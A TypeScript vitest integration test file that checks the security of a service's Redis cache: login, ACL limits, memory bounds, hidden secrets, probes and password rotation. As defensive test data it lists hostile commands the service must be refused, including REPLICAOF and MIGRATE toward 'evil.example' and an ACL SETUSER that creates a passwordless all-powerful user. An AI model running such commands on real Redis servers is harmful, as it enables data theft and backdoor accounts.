import { afterAll, beforeAll, describe, expect, test } from "vitest";
import {
  cacheAdmin,
  cacheCredentials,
  cacheNames,
  credentialSecret,
} from "../../../src/application/credentials.ts";
import { valuesOf } from "./pod.ts";
import { type RunningRedis, redisPrograms, startRedis } from "./redis.ts";
import { secretsOf, service, storeOf } from "./service.ts";

const here = redisPrograms !== undefined;
if (!here) console.warn("Redis is not installed: what the cache's pod runs is not proven here");

const password = "0123456789abcdef0123456789abcdef0123456789abcdef";
const adminPassword = "aaaaaaaabbbbbbbbccccccccddddddddeeeeeeeeffffffff";
const next = "fedcba9876543210fedcba9876543210fedcba9876543210";

describe.skipIf(!here)("the cache of a service, on a real Redis", () => {
  const application = service();
  const secrets = secretsOf(application, "cache", [password, adminPassword]);
  const {
    name,
    logins: [first, second],
  } = cacheNames(application);
  const own = { user: first, password };
  const admin = { user: cacheAdmin, password: adminPassword };
  let server: RunningRedis;
  beforeAll(async () => {
    server = await startRedis(storeOf(application, "cache"), secrets);
  });
  afterAll(() => server?.stop());

  test("the service logs in by its Secret's URI, and keeps and finds its values", async () => {
    const { uri = "", host = "" } = valuesOf(secrets[0]);
    const here = uri.replace(`${host}:6379`, `127.0.0.1:${server.port}`);
    expect((await server.byUri(here, "SET", "greeting", "hello")).out).toBe("OK\n");
    expect(await server.command(own, "GET", "greeting")).toMatchObject({ code: 0, out: "hello\n" });
    expect(
      (await server.command(own, "EVAL", "return redis.call('GET', KEYS[1])", "1", "greeting")).out,
    ).toBe("hello\n");
    expect((await server.command(own, "KEYS", "*")).out).toBe("greeting\n");
  });

  test.each([
    ["a wrong password", { user: first, password: next }],
    ["the user without a name, with the service's password", { user: "default", password }],
    ["the login whose turn it is not", { user: second, password }],
    ["who administers, with the service's password", { user: cacheAdmin, password }],
  ])("%s is refused", async (_, login) => {
    const { out, err } = await server.command(login, "PING");
    expect(out + err).toMatch(/WRONGPASS|NOAUTH/);
    expect(out).not.toContain("PONG");
  });

  test("nobody gets in without a password", async () => {
    const { err } = await server.byUri(`redis://127.0.0.1:${server.port}`, "GET", "greeting");
    expect(err).toContain("NOAUTH");
  });

  test.each([
    ["read or change settings", ["CONFIG", "GET", "*"]],
    ["make users", ["ACL", "SETUSER", "mallory", "on", "nopass", "+@all", "~*"]],
    ["see what code is loaded into the server", ["MODULE", "LIST"]],
    ["stop the server", ["SHUTDOWN"]],
    ["send its data elsewhere", ["REPLICAOF", "evil.example", "6379"]],
    ["connect to elsewhere", ["MIGRATE", "evil.example", "6379", "greeting", "0", "1000"]],
    ["watch what others do", ["MONITOR"]],
  ])("the service cannot %s", async (_, command) => {
    const { out, err } = await server.command(own, ...command);
    expect(out + err).toContain("NOPERM");
  });

  test.each([
    ["read", ["GET", "greeting"]],
    ["write", ["SET", "greeting", "bye"]],
    ["read settings", ["CONFIG", "GET", "*"]],
  ])("who administers users cannot %s", async (_, command) => {
    const { out, err } = await server.command(admin, ...command);
    expect(out + err).toContain("NOPERM");
  });

  test("memory has a bound below the container's, and what was used longest ago makes room", async () => {
    const { out } = await server.command(own, "INFO", "memory");
    expect(out).toContain(`maxmemory:${48 * 1024 * 1024}`);
    expect(out).toContain("maxmemory_policy:allkeys-lru");
  });

  test("no process in the pod can read a password of another's arguments or environment", async () => {
    const visible = await server.visible();
    expect(visible).toContain("--maxmemory");
    for (const secret of [password, adminPassword]) expect(visible).not.toContain(secret);
  });

  test("the probes find it started, alive and ready", async () => {
    for (const which of ["startup", "liveness", "readiness"] as const) {
      expect({ which, ...(await server.probe(which)) }).toMatchObject({ which, code: 0, err: "" });
    }
  });

  test("a restart keeps data and login; in the middle of a rotation it takes nobody's login away", async () => {
    await server.command(own, "SET", "kept", "yes");
    await server.restart(secrets);
    expect((await server.command(own, "GET", "kept")).out).toBe("yes\n");
    const under = credentialSecret(application, "cache", `${name}-next`, {
      ...{ username: second, password: next, previousUsername: first, previousPassword: password },
    });
    const both = [own, { user: second, password: next }];
    // Before and after the Secret that the pods read has changed.
    const changed = credentialSecret(application, "cache", name, cacheCredentials(application, second, next));
    for (const read of [secrets[0], changed]) {
      if (read === undefined) throw new Error("no Secret");
      await server.restart([read, ...secrets.slice(1), under]);
      for (const login of both) expect((await server.command(login, "GET", "kept")).out).toBe("yes\n");
    }
    await server.restart([changed, ...secrets.slice(1)]);
    expect((await server.command({ user: second, password: next }, "GET", "kept")).out).toBe("yes\n");
    expect((await server.command(own, "GET", "kept")).out).not.toContain("yes");
  });
});
